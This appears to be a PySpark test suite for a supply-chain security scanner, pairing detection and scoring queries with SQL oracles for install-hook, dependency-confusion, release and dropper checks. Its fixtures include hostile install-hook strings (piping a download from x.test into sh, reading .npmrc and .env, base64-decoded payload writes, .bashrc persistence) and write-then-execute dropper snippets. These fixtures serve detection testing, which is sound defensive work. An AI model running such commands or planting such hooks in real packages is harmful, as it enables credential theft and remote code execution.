"""Queries over the judgements of operators.assess, report documents and stateful streams."""

from __future__ import annotations

import json

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from quarrylens.operators import analytics, assess, rules, structural
from quarrylens.plans.catalog import LINES, ORACLES, ORDERS, QUERIES, RANK, WEIGHT, query
from quarrylens.sources import documents, formats, locks, tables
from quarrylens.streaming import monitor


def _cell(x) -> str:
    return "NULL" if x is None else "'" + x.replace("'", "''") + "'" if isinstance(x, str) else str(x)


def cases(name: str, schema: str, rows: list[tuple], columns: str, expected: list[tuple]):
    """A query over each nation's copy of constant rows (schema; a nation column is added); the SQL states what comes out."""

    def add(f):
        def run(spark: SparkSession, d: str) -> DataFrame:
            made = spark.createDataFrame(rows, schema)
            # a handful of constants
            each = tables.table(spark, d, "nation").select(F.col("n_nationkey").cast("long").alias("nation")).join(F.broadcast(made))
            return f(spark, each)

        QUERIES[name] = run
        values = ", ".join(f"({', '.join(map(_cell, v))})" for v in expected)
        ORACLES[name] = f"SELECT n_nationkey::BIGINT AS nation, {', '.join('e.' + c for c in columns.split(', '))} FROM nation, (VALUES {values}) e({columns})"
        return f

    return add


def per_nation(f, each: DataFrame, key: str) -> DataFrame:
    """What ``f`` gives where the key is made the nation's own, with the nation as a column again."""
    out = f(each.withColumn(key, F.concat_ws("#", F.col("nation").cast("string"), key)))
    return out.withColumn("nation", F.substring_index(key, "#", 1).cast("long")).withColumn(key, F.substring_index(key, "#", -1))


# ------------------------------------------------------------------ policy and scores
@query(f"""SELECT seq::BIGINT AS seq, CASE WHEN rule = 'O-05' THEN 'low' ELSE severity END AS severity FROM (
  SELECT *, 'p' || (seq % 13)::VARCHAR AS package, 'h' || (seq % 5)::VARCHAR || CASE WHEN seq % 2 = 0 THEN '.a.test' ELSE '.b.test' END AS host, 'o' || (seq % 11)::VARCHAR AS owner FROM {ORDERS})
  WHERE rule NOT IN ('P-03') AND NOT (rule = 'F-01' AND regexp_matches(file, '^f1[^/]*$')) AND package NOT IN ('p3') AND NOT (rule = 'O-07' AND package = 'p5') AND NOT (host = 'h1.b.test' OR ends_with(host, '.h1.b.test') OR host = 'a.test' OR ends_with(host, '.a.test')) AND owner <> 'o4'""")
def policy_in_full(spark, d):
    number = lambda p, m: F.concat(F.lit(p), (F.col("seq") % m).cast("string"))
    f = tables.order_findings(spark, d).withColumn("package", number("p", 13)).withColumn("host", F.concat(number("h", 5), F.when(F.col("seq") % 2 == 0, ".a.test").otherwise(".b.test"))).withColumn("owner", number("o", 11))
    out = assess.full_policy(f, ["P-03"], {"F-01": ["f1*"]}, ["p3"], [("O-07", "p5")], ["h1.b.test", "a.test"], ["o4"], {"O-05": "low"})
    return out.select("seq", "severity")


@query(f"""WITH s AS (SELECT target, least(100, sum(w)) AS score FROM (SELECT target, rule, max({WEIGHT}) AS w FROM {ORDERS} GROUP BY 1, 2) GROUP BY 1),
  i AS (SELECT target, least(30, sum(CASE rule WHEN 'O-03' THEN 5 ELSE 9 END)) AS boost FROM (SELECT DISTINCT target, rule FROM {ORDERS} WHERE rule IN ('O-03', 'F-03')) GROUP BY 1)
  SELECT target, score::BIGINT AS score, coalesce(boost, 0)::BIGINT AS boost, least(100, score + coalesce(boost, 0))::BIGINT AS final FROM s LEFT JOIN i USING (target)""")
def final_score(spark, d):
    f = tables.order_findings(spark, d)
    found = f.where("rule IN ('O-03', 'F-03')").select("target", "rule").distinct().select("target", F.when(F.col("rule") == "O-03", 0.15).otherwise(0.30).alias("boost"))
    return assess.boosted(analytics.score_by_target(f), found)


@query(f"""SELECT target, round(least(1.0, CASE WHEN n > 0 THEN least(1.0, 0.5 + 0.05 * n) ELSE 0.5 END + CASE WHEN c THEN 0.1 ELSE 0 END + CASE WHEN k THEN 0.15 ELSE 0 END), 2)::DOUBLE AS confidence FROM (
  SELECT target, count(*) FILTER (severity <> 'info') AS n, bool_or(rule = 'O-03') AS c, bool_or(rule = 'F-03') AS k FROM {ORDERS} GROUP BY 1)""")
def confidence_ladder(spark, d):
    return assess.ladder(tables.order_findings(spark, d), F.col("rule") == "O-03", F.col("rule") == "F-03")


@query(f"""SELECT target, floor(round((0.4 * publisher + 0.3 * code + 0.2 * dependency + 0.1 * release)::DOUBLE, 6) + 0.5)::BIGINT AS total FROM (
  SELECT target, target % 101 AS publisher, greatest(0, 100 - least(60, 20 * count(*) FILTER (rule LIKE 'F%' AND severity = 'critical')) - least(30, 10 * count(*) FILTER (rule LIKE 'F%' AND severity = 'high'))) AS code,
  greatest(0, 100 - least(30, 10 * count(*) FILTER (rule LIKE 'O%'))) AS dependency, greatest(0, 100 - least(50, 15 * count(*) FILTER (rule LIKE 'P%'))) AS release FROM {ORDERS} GROUP BY 1)""")
def trust_total(spark, d):
    return assess.trust_total(analytics.trust(tables.order_findings(spark, d), "^F", "^O", "^P").withColumn("publisher", F.col("target") % 101))


@query(f"SELECT count(*)::BIGINT AS targets, (count(*) FILTER (c))::BIGINT AS critical_targets FROM (SELECT target, bool_or(severity = 'critical') AS c FROM {ORDERS} GROUP BY 1) HAVING count(*) > 10 AND 2 * count(*) FILTER (c) > count(*)")
def org_cluster_anomaly(spark, d):
    return assess.cluster_anomaly(tables.order_findings(spark, d))


@query(f"SELECT file, count(DISTINCT target)::BIGINT AS n_targets FROM {ORDERS} GROUP BY 1 HAVING count(DISTINCT target) >= 2")
def recurring_files(spark, d):
    return assess.recurring(tables.order_findings(spark, d), "file")


@query(f"""WITH s AS (SELECT target, least(100, sum({WEIGHT}))::BIGINT AS score, target % 7 = 0 AS partial FROM {ORDERS} GROUP BY 1)
  SELECT *, (SELECT round(avg(score), 2) FROM s WHERE NOT partial) AS average FROM s ORDER BY partial DESC, score DESC, target LIMIT 10""")
def posture_top(spark, d):
    return assess.posture(analytics.plain_score(tables.order_findings(spark, d)).withColumn("partial", F.col("target") % 7 == 0))


@query(f"SELECT target, bool_or(rule IN ('P-01', 'P-02')) AS partial FROM {ORDERS} GROUP BY 1")
def partial_targets(spark, d):
    return assess.partial_targets(tables.order_findings(spark, d), ("P-01", "P-02"))


@query(f"SELECT target, seq::BIGINT AS seq, place::INT AS place FROM (SELECT *, row_number() OVER (PARTITION BY target ORDER BY {RANK} DESC, seq) AS place FROM {ORDERS}) WHERE place <= 3")
def compact_report(spark, d):
    return assess.compact(tables.order_findings(spark, d), 3).select("target", "seq", "place")


@query(f"""SELECT seq::BIGINT AS seq, c AS confidence, CASE WHEN c >= 0.8 THEN 'confirmed' WHEN c >= 0.5 THEN 'likely' ELSE 'possible' END AS tier FROM (
  SELECT seq, round(greatest(0, least(1, confidence::DOUBLE + CASE WHEN n > 1 THEN 0.1 ELSE 0 END)), 4)::DOUBLE AS c FROM {ORDERS} o JOIN (SELECT target, rule, count(DISTINCT file) AS n FROM {ORDERS} GROUP BY 1, 2) k USING (target, rule))""")
def confidence_tiers(spark, d):
    return assess.validated_confidence(tables.order_findings(spark, d)).select("seq", "confidence", "tier")


@query(f"""SELECT target, path FROM (SELECT target, bool_or(rule LIKE 'O-0%') AND bool_or(rule LIKE 'F-0%') AS a, bool_or(rule LIKE 'P-%') AND bool_or(rule LIKE 'O-1%') AS b FROM {ORDERS} GROUP BY 1), (VALUES ('entry'), ('release')) p(path) WHERE CASE path WHEN 'entry' THEN a ELSE b END""")
def attack_paths(spark, d):
    return assess.named_paths(tables.order_findings(spark, d), {"entry": ("^O-0", "^F-0"), "release": ("^P-", "^O-1")})


STEPS = [("spring", 1, "rotate"), ("spring", 2, "audit"), ("winter", 1, "pin")]
INCIDENTS = [("t", "winter", 0.7), ("t", "spring", 0.9), ("t", "autumn", 0.9)]


@cases("incident_playbooks", "target string, cluster string, confidence double", INCIDENTS, "target, cluster, step, action", [("t", "spring", 1, "rotate"), ("t", "spring", 2, "audit"), ("t", "winter", 1, "pin")])
def _playbooks(spark, each):
    return per_nation(lambda x: assess.playbooks(x, spark.createDataFrame(STEPS, "cluster string, step int, action string")), each, "target")


@cases("ranked_incidents", "target string, cluster string, confidence double", INCIDENTS, "target, cluster, place", [("t", "autumn", 1), ("t", "spring", 2), ("t", "winter", 3)])
def _ranked(spark, each):
    return per_nation(assess.ranked_incidents, each, "target").drop("confidence")


@cases("overlapping_findings", "file string, line int, start int, stop int, rule string, rank int", [("f", 1, 0, 20, "URL", 3), ("f", 1, 7, 15, "HOST", 1), ("f", 1, 30, 40, "IP", 1), ("f", 2, 7, 15, "HOST", 1)], "file, line, rule", [("f", 1, "URL"), ("f", 1, "IP"), ("f", 2, "HOST")])
def _overlaps(spark, each):
    return per_nation(assess.without_overlaps, each, "file").select("nation", "file", "line", "rule")


# ------------------------------------------------------------------ as-of, intervals, proximity
@query("""SELECT e.event_id, (SELECT max(o.o_orderkey) FROM orders o WHERE o.o_custkey = e.user_id AND o.o_orderkey <= e.event_id)::BIGINT AS orderkey FROM events e""")
def as_of_lookup(spark, d):
    probes = tables.table(spark, d, "events").select("event_id", F.col("user_id").alias("key"), F.col("event_id").alias("at"))
    points = tables.table(spark, d, "orders").select(F.col("o_custkey").alias("key"), F.col("o_orderkey").alias("at"), F.col("o_orderkey").alias("orderkey"))
    return assess.as_of(probes, points, "key", "at", "orderkey", span=1000).select("event_id", F.coalesce("orderkey", F.lit(-1)).alias("orderkey"))


ORACLES["as_of_lookup"] = "SELECT event_id, coalesce(orderkey, -1)::BIGINT AS orderkey FROM (" + ORACLES["as_of_lookup"] + ")"


@query("""SELECT e.event_id FROM events e WHERE EXISTS (SELECT 1 FROM orders o WHERE o.o_custkey = e.user_id AND e.event_id BETWEEN o.o_orderkey AND o.o_orderkey + 20 AND o.o_orderkey = (SELECT max(p.o_orderkey) FROM orders p WHERE p.o_custkey = e.user_id AND p.o_orderkey <= e.event_id))""")
def interval_containment(spark, d):
    events = tables.table(spark, d, "events").select("event_id", F.col("user_id").alias("key"), F.col("event_id").alias("at"))
    ranges = tables.table(spark, d, "orders").select(F.col("o_custkey").alias("key"), F.col("o_orderkey").alias("start"), (F.col("o_orderkey") + 20).alias("stop"))
    return assess.within(events, ranges, "key", "at", span=1000).select("event_id")


@query(f"""SELECT path, min(line)::INT AS line FROM (SELECT b.path, b.line FROM {LINES} a JOIN {LINES} b ON a.path = b.path AND b.line - a.line BETWEEN 0 AND 15
  WHERE regexp_matches(a.content, '[a-z]\\.$') AND regexp_matches(b.content, 'Licensed|token')) GROUP BY 1""")
def proximity(spark, d):
    return assess.near(rules.lines(tables.files(spark, d)), r"[a-z]\.$", "Licensed|token")


# ------------------------------------------------------------------ packages, releases, repositories
@cases("publishing_anomalies", "package string, version string, at string, maintainers string, scripts boolean",
    [("p", "1.0.0", "2020-01-01", "a", False), ("p", "1.1.0", "2020-02-01", "a,b", True), ("p", "6.0.0", "2023-01-01", "a", True)],
    "package, version, rule", [("p", "1.1.0", "MAINTAINER_ADDED"), ("p", "1.1.0", "INSTALL_SCRIPT_ADDED"), ("p", "6.0.0", "PUBLISHED_AFTER_GAP"), ("p", "6.0.0", "MAJOR_JUMP")])
def _publishing(spark, each):
    made = each.withColumn("at", F.col("at").cast("timestamp")).withColumn("maintainers", F.split("maintainers", ","))
    return per_nation(assess.publishing_anomalies, made, "package")


NOW = "2024-06-30 00:00:00"


@cases("dependency_confusion", "package string, exists boolean, published string, downloads long, scripts boolean",
    [("corp-a", True, "2024-06-29", 5, False), ("corp-b", True, "2020-01-01", 5000, False), ("fakelib", True, "2024-06-29", 1, True), ("gone", False, None, 0, False), ("odd", True, "2024-06-28", 3, True), ("fine", True, "2020-01-01", 10**6, True)],
    "package, rule, severity", [("corp-a", "DEP_INTERNAL_NAME_PUBLIC", "critical"), ("corp-b", "DEP_INTERNAL_NAME_PUBLIC", "high"), ("fakelib", "DEP_HALLUCINATED_PACKAGE", "high"), ("gone", "DEPCONF_NOT_ON_REGISTRY", "high"), ("odd", "DEP_SUSPICIOUS_METADATA", "high")])
def _confusion(spark, each):
    made = each.withColumn("published", F.col("published").cast("timestamp"))
    return made.select("nation", "package").join(assess.confusion(made.drop("nation").distinct(), "^corp-", ("fakelib",), NOW), "package")


@cases("freshness", "package string, published string", [("a", "2024-06-29 12:00:00"), ("b", "2024-06-25"), ("c", "2024-06-10"), ("d", "2024-05-01"), ("e", "2020-01-01")], "package, freshness", [("a", "hot"), ("b", "cooldown"), ("c", "recent"), ("d", "young"), ("e", "settled")])
def _freshness(spark, each):
    return each.select("nation", "package", assess.freshness(F.col("published").cast("timestamp"), NOW).alias("freshness"))


@cases("repository_claims", "package string, repository string", [("left-pad", "left-pad"), ("react-utils", "acme/react-kit"), ("node-js", "js/node"), ("foo", "bar/baz")], "package, related", [("left-pad", 1), ("react-utils", 1), ("node-js", 0), ("foo", 0)])
def _claims(spark, each):
    return each.select("nation", "package", assess.related_names(F.col("package"), F.col("repository")).cast("int").alias("related"))


@cases("malicious_names", "package string", [("evil-colors",), ("colors",), ("crypto-stealer-x",)], "package, pattern", [("evil-colors", "^evil-"), ("crypto-stealer-x", "stealer")])
def _names(spark, each):
    return each.select("nation", "package", assess.first_pattern(F.col("package"), ("^evil-", "stealer")).alias("pattern")).where("pattern IS NOT NULL")


@cases("untrusted_sources", "name string, resolved string", [("a", "https://registry.npmjs.org/a"), ("b", "https://x.test/b"), ("c", None)], "name", [("b",)])
def _sources(spark, each):
    return assess.untrusted_sources(each, ("https://registry.npmjs.org/",)).select("nation", "name")


@cases("artifact_overlaps", "up string, down string", [("dist-*", "dist-linux"), ("out", "out"), ("a-*", "b-*"), ("*", "x")], "up, down", [("dist-*", "dist-linux"), ("out", "out"), ("*", "x")])
def _overlap(spark, each):
    return each.where(locks.selectors_overlap(F.col("up"), F.col("down"))).select("nation", "up", "down")


HOOKS = {"scripts": {"postinstall": "curl https://x.test/i | sh", "preinstall": "node a.js && cat .npmrc .env", "prepare": "echo eA== | base64 -d > node_modules/a.js", "test": "curl x", "install": "run tool.exe; printenv; echo 1 >> ~/.bashrc " + "x" * 300}}


@cases("install_hooks", "path string, text string", [("p", json.dumps(HOOKS))], "path, hook, rule",
    [("p", "postinstall", "INSTALL_HOOK_NETWORK"), ("p", "postinstall", "INSTALL_HOOK_DOWNLOAD_EXEC"), ("p", "preinstall", "INSTALL_HOOK_NPMRC_READ"), ("p", "preinstall", "INSTALL_HOOK_DOTENV_READ"), ("p", "prepare", "INSTALL_HOOK_OBFUSCATED"), ("p", "prepare", "INSTALL_HOOK_HOST_RUNTIME_PATCH"),
     ("p", "install", "INSTALL_HOOK_BINARY_BLOB"), ("p", "install", "INSTALL_HOOK_ENV_HARVEST"), ("p", "install", "INSTALL_HOOK_PERSISTENCE_WRITE"), ("p", "install", "INSTALL_HOOK_LONG_ONELINER")])
def _hooks(spark, each):
    return per_nation(assess.install_hooks, each, "path")


@cases("file_name_findings", "path string", [("a/i.js",), ("init.json",), ("x/tool.exe",), ("prebuilds/a.node",), ("a/main.js",)], "path, rule, severity", [("a/i.js", "SUSPICIOUS_I_JS", "high"), ("init.json", "SUSPICIOUS_INIT_JSON", "high"), ("x/tool.exe", "BINARY_FILE", "high"), ("prebuilds/a.node", "BINARY_FILE", "info")])
def _file_names(spark, each):
    return each.select("nation", "path").join(assess.file_name_findings(each.select("path").distinct()), "path")


@cases("scannable_files", "path string", [("a.js",), ("b.PY",), ("c.png",), ("Makefile",), ("d/e.tar.gz",), ("f.md",)], "path", [("a.js",), ("b.PY",), ("f.md",)])
def _scannable(spark, each):
    return each.where(assess.scannable(F.col("path"))).select("nation", "path")


@cases("release_findings", "release string, asset string, size long, tagged string, published string", [("v1", "a.exe", 1, "2024-01-01", "2024-01-02"), ("v2", "a.7z", 2 * 10**8, "2024-01-01", "2024-02-01"), ("v3", "a.zip", 1, "2024-01-01", "2024-01-08")], "release, asset, rule", [("v1", "a.exe", "RELEASE_EXE_ARTIFACT"), ("v2", "a.7z", "RELEASE_7Z_ARCHIVE"), ("v2", "a.7z", "RELEASE_SIZE_ANOMALY"), ("v2", "a.7z", "RELEASE_DATE_MISMATCH")])
def _releases(spark, each):
    at = each.withColumn("tagged", F.col("tagged").cast("timestamp")).withColumn("published", F.col("published").cast("timestamp"))
    return per_nation(assess.release_findings, at, "release")


@cases("repository_trust", "repo string, account_at string, created_at string, stars int, forks int, contributors int, commits int", [("new", "2024-06-01", "2024-06-15", 500, 2, 1, 1), ("old", "2015-01-01", "2016-01-01", 500, 90, 30, 900)], "repo, rule", [("new", "REPO_NEW_ACCOUNT"), ("new", "REPO_RECENT_CREATION"), ("new", "REPO_STAR_FORK_RATIO"), ("new", "REPO_FEW_CONTRIBUTORS"), ("new", "REPO_SINGLE_COMMIT")])
def _trust(spark, each):
    at = each.withColumn("account_at", F.col("account_at").cast("timestamp")).withColumn("created_at", F.col("created_at").cast("timestamp"))
    return per_nation(lambda x: assess.repository_trust(x, NOW), at, "repo")


@cases("provenance_levels", "repo string, text string", [("a", "runs-on: x"), ("a", "uses: actions/attest-build-provenance@v1"), ("b", "runs-on: x"), ("c", "uses: slsa-framework/slsa-github-generator/x@v1"), ("d", "nothing")], "repo, level", [("a", 2), ("b", 1), ("c", 3), ("d", 0)])
def _provenance(spark, each):
    return per_nation(assess.provenance_level, each, "repo")


SIGNALS = {"policy": r"(^|/)SECURITY\.md$", "owners": r"(^|/)CODEOWNERS$", "tests": r"(^|/)tests?/"}


@cases("trust_signals", "repo string, path string", [("a", "SECURITY.md"), ("a", "test/a.js"), ("b", ".github/CODEOWNERS"), ("c", "a.js")], "repo, signal", [("a", "policy"), ("a", "tests"), ("b", "owners")])
def _signals(spark, each):
    return per_nation(lambda x: assess.trust_signals(x, SIGNALS), each, "repo")


@cases("setup_context", "path string, text string", [("a", "cmdclass = {'install': I}\nos.system('x')"), ("b", "cmdclass = {}"), ("c", "import subprocess")], "path", [("a",)])
def _setup(spark, each):
    return per_nation(assess.setup_context, each, "path")


BAD = [("evil", None), ("half", "1.0.0")]


@cases("install_guard", "id string, command string", [("a", "npm install evil@2.0.0 half@2.0.0 ok"), ("b", "pip install -U half==1.0.0 ./local"), ("c", "ls evil"), ("d", "npm i @s/p@1")], "id, name, blocked", [("a", "evil", 1), ("a", "half", 0), ("a", "ok", 0), ("b", "half", 1), ("d", "@s/p", 0)])
def _guard(spark, each):
    out = per_nation(lambda x: assess.guard(x, spark.createDataFrame(BAD, "name string, version string")), each, "id")
    return out.withColumn("blocked", F.col("blocked").cast("int"))


@cases("fix_suggestions", "name string, version string", [("p", "1.2.0"), ("p", "2.0.0"), ("q", "9.0.0")], "name, version, suggestion", [("p", "1.2.0", "1.10.0"), ("p", "2.0.0", "3.0.0")])
def _fixes(spark, each):
    fixed = spark.createDataFrame([("p", "1.0.9"), ("p", "1.10.0"), ("p", "3.0.0"), ("q", "1.0.0")], "name string, version string")
    return each.join(assess.fix_suggestions(each.drop("nation").distinct(), fixed), ["name", "version"])


@cases("semver_parts", "version string", [("1.2.3",), ("v10.0.1-rc.1",), ("1.2",)], "version, major, minor, patch", [("1.2.3", 1, 2, 3), ("v10.0.1-rc.1", 10, 0, 1), ("1.2", -1, -1, -1)])
def _semver(spark, each):
    s = assess.semver(F.col("version"))
    return each.select("nation", "version", *(F.coalesce(s[k], F.lit(-1)).alias(k) for k in ("major", "minor", "patch")))


@cases("escapes", "id string, text string", [("csv", '=1+"a"'), ("xml", "<a & 'b'>"), ("md", "a|b\nc"), ("path", "/home/jo/x\\y.js"), ("shown", "a" * 130), ("mask", "a = 'x // y' // z\n/* q */b"), ("hours", "3d")], "id, value",
    [("csv", '"\'=1+""a"""'), ("xml", "&lt;a &amp; &apos;b&apos;&gt;"), ("md", "a\\|b c"), ("path", "~/x/y.js"), ("shown", "a" * 120 + "..."), ("mask", "a = 'x // y' \nb"), ("hours", "72")])
def _escapes(spark, each):
    t = F.col("text")
    kinds = {"csv": assess.csv_cell(t), "xml": assess.xml_text(t), "md": assess.markdown_cell(t), "path": assess.public_path(t), "shown": assess.shown(t), "mask": assess.masked_comments(t), "hours": assess.duration_hours(t).cast("string")}
    out = F.lit(None).cast("string")
    for k, v in kinds.items():
        out = F.when(F.col("id") == k, v).otherwise(out)
    return each.select("nation", "id", out.alias("value"))


CONTEXT_LINES = [("a.js", 1, "x = 1 // db.corp"), ("a.js", 2, "y = 'http://db.corp'"), ("a.js", 3, "z = 'a // b' + db.corp"), ("a.js", 4, "f(db.corp) # no"), ("a.py", 1, "# it's db.corp"),
    ("d.md", 1, "see db.corp"), ("d.md", 2, "```"), ("d.md", 3, "curl db.corp"), ("d.md", 4, "```"), ("d.md", 5, "use `db.corp`"), ("d.md", 6, "it's db.corp")]


@cases("lexical_contexts", "path string, line int, content string", CONTEXT_LINES, "path, line, context",
    [("a.js", 1, "comment"), ("a.js", 2, "quoted"), ("a.js", 3, "plain"), ("a.js", 4, "plain"), ("a.py", 1, "comment"), ("d.md", 1, "plain"), ("d.md", 3, "markdown_code"), ("d.md", 5, "markdown_code"), ("d.md", 6, "plain")])
def _contexts(spark, each):
    hits = lambda x: x.select("path", "line", F.instr("content", "db.corp").alias("start")).where("start > 0")
    return per_nation(lambda x: assess.with_context(hits(x), x), each, "path").select("nation", "path", "line", "context")


@cases("single_indicator","value string", [("X.TEST ",), ("y.test",)], "value, type", [("X.TEST ", "domain")])
def _single(spark, each):
    feed = formats.feed(spark.createDataFrame([('[{"type": "domain", "value": "x.test"}]',)], "value string"))
    return each.withColumn("key", F.lower(F.trim("value"))).join(feed.select(F.lower("value").alias("key"), "type"), "key").select("nation", "value", "type")


# ------------------------------------------------------------------ reports
FOUND = [("t", 1, "B", "high", "f", 1, "x|y"), ("t", 2, "A", "low", "g", 2, "<z>"), ("t", 3, "B", "medium", "h", 3, "w")]
COLUMNS = "target string, seq int, rule string, severity string, file string, line int, description string"


@cases("report_markdown", COLUMNS, FOUND, "target, document", [("t", "# Findings\n\n| Severity | Rule | Description |\n|---|---|---|\n| high | B | x\\|y |\n| low | A | <z> |\n| medium | B | w |\n")])
def _markdown(spark, each):
    return per_nation(lambda x: documents.document(x, "markdown"), each, "target")


@cases("report_html", COLUMNS, FOUND[:2], "target, document", [("t", "<table><tr><td>high</td><td>B</td><td>x|y</td></tr><tr><td>low</td><td>A</td><td>&lt;z&gt;</td></tr></table>")])
def _html(spark, each):
    return per_nation(lambda x: documents.document(x, "html"), each, "target")


@cases("report_junit", COLUMNS, FOUND, "target, document", [("t", '<testsuite tests="2" failures="1"><testcase name="A"/><testcase name="B"><failure/></testcase></testsuite>')])
def _junit(spark, each):
    return per_nation(lambda x: documents.document(x, "junit"), each, "target")


@cases("report_sarif", COLUMNS, FOUND[:2], "target, document", [("t", '{"version":"2.1.0","runs":[{"tool":{"driver":{"name":"quarrylens","rules":[{"id":"B"},{"id":"A"}]}},"results":[{"ruleId":"B","ruleIndex":0,"level":"error","message":{"text":"x|y"}},{"ruleId":"A","ruleIndex":1,"level":"note","message":{"text":"<z>"}}]}]}')])
def _sarif(spark, each):
    return per_nation(lambda x: documents.document(x, "sarif"), each, "target")


@cases("report_badge", "target string, score int, level string", [("t", 70, "critical")], "target, document", [("t", '{"schemaVersion":1,"label":"supply chain","message":"70/100","color":"red"}')])
def _badge(spark, each):
    return per_nation(documents.badge, each, "target")


@cases("report_cyclonedx", "target string, name string, version string, purl string", [("t", "b", "1", "pkg:npm/b@1"), ("t", "a", "2", "pkg:npm/a@2")], "target, document", [("t", '{"bomFormat":"CycloneDX","specVersion":"1.5","version":1,"components":[{"type":"library","name":"a","version":"2","purl":"pkg:npm/a@2"},{"type":"library","name":"b","version":"1","purl":"pkg:npm/b@1"}]}')])
def _cyclonedx(spark, each):
    return per_nation(documents.cyclonedx, each, "target")


@cases("report_mermaid", "target string, src string, dst string, type string", [("t", "r/a", "R-1", "triggers"), ("t", "r", "r/a", "contains")], "target, document", [("t", "graph TD\n  r -->|contains| r_a\n  r_a -->|triggers| R_1")])
def _mermaid(spark, each):
    return per_nation(documents.mermaid, each, "target")


# ------------------------------------------------------------------ streams
@query("SELECT count(*)::BIGINT AS n, count(DISTINCT event_id)::BIGINT AS ids FROM events")
def stream_once(spark, d):
    e = tables.table(spark, d, "events")
    return monitor.once(e.union(e)).agg(F.count("*").alias("n"), F.countDistinct("event_id").alias("ids"))


@query("""WITH b AS (SELECT *, CASE WHEN event_id % 2 = 0 THEN 0 ELSE 1 END AS part FROM events), f AS (SELECT user_id, max(ts) AS newest FROM b WHERE part = 0 GROUP BY 1)
  SELECT DISTINCT user_id AS key, ts AS at, event_type AS what FROM b JOIN f USING (user_id) WHERE part = 1 AND ts > newest""")
def stream_alerts(spark, d):
    """Even events arrive in the first batch and set the state, odd ones in the second."""
    folder = monitor.shared_folder(spark, "alerts-in")
    e = tables.table(spark, d, "events").select("event_id", "user_id", F.col("ts").cast("timestamp").alias("ts"), "event_type")
    for k in (0, 1):
        e.where(F.col("event_id") % 2 == k).coalesce(1).write.mode("append").parquet(folder)
    source = spark.readStream.schema(e.schema).option("maxFilesPerTrigger", 1).parquet(folder)
    return monitor.replay(spark, monitor.alerts(source), "alerts", "append").select("key", "at", "what")


MEMOS = [("tx1", [("memo", "hi"), ("pay", "1")], [[("memo", "in")]]), ("tx2", [("pay", "2")], None)]


@cases("stream_memos", "id string, instructions array<struct<program:string,data:string>>, inner array<array<struct<program:string,data:string>>>", MEMOS, "id, memo", [("tx1", "hi"), ("tx1", "in")])
def _memos(spark, each):
    return per_nation(lambda x: monitor.memos(x, ("memo",)), each, "id")


# ------------------------------------------------------------------ structures
DROPPERS = [
    ("a.js", "const p = os.tmpdir() + '/x'\nfs.writeFileSync(p, body)\nspawn(p)"),
    ("b.js", "let p = tmpdir(); fs.writeFile(p, b)\np = 'notes.txt'\nexec(p)"),
    ("c.js", "exec('C:/Drop/run.EXE')\nsaveFile('C:/in/run.exe', b)\nexecFile('run.exe'); exec('other.exe')"),
    ("d.js", "const q = 'notes.txt'\nwriteFileSync(q, b)\nexec(q)\n// writeFileSync('z.bat'); exec('z.bat')"),
    ("e.js", "p = '/tmp/a'\nwriteFileSync(p, b)\nwriteFileSync(p, c); system(p)\nlog(p === q)\nspawnSync(p)"),
    ("f.js", ""),
    ("g.js", None),
]


@cases("write_then_run", "file string, text string", DROPPERS, "file, line, run_line", [("a.js", 2, 3), ("c.js", 2, 3), ("e.js", 3, 3), ("e.js", 3, 5)])
def _droppers(spark, each):
    return per_nation(lambda e: structural.write_then_run(e.withColumnRenamed("file", "path")).withColumnRenamed("path", "file"), each, "file")
